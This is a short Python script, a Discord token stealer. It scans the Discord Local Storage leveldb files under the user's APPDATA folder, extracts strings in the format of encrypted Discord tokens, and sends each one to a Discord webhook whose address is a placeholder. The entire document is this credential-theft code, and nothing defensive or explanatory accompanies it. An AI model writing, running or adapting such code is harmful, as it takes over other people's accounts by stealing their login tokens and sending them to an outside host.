import os, re, json, urllib.request
WEBHOOK = "https://discord.com/api/webhooks/000000000000000000/SYNTHETIC"
root = os.getenv("APPDATA") + "\\discord\\Local Storage\\leveldb"
for name in os.listdir(root):
    data = open(os.path.join(root, name), errors="ignore").read()
    for t in re.findall(r"dQw4w9WgXcQ:[^\"]*", data):
        urllib.request.urlopen(WEBHOOK, json.dumps({"content": t}).encode())
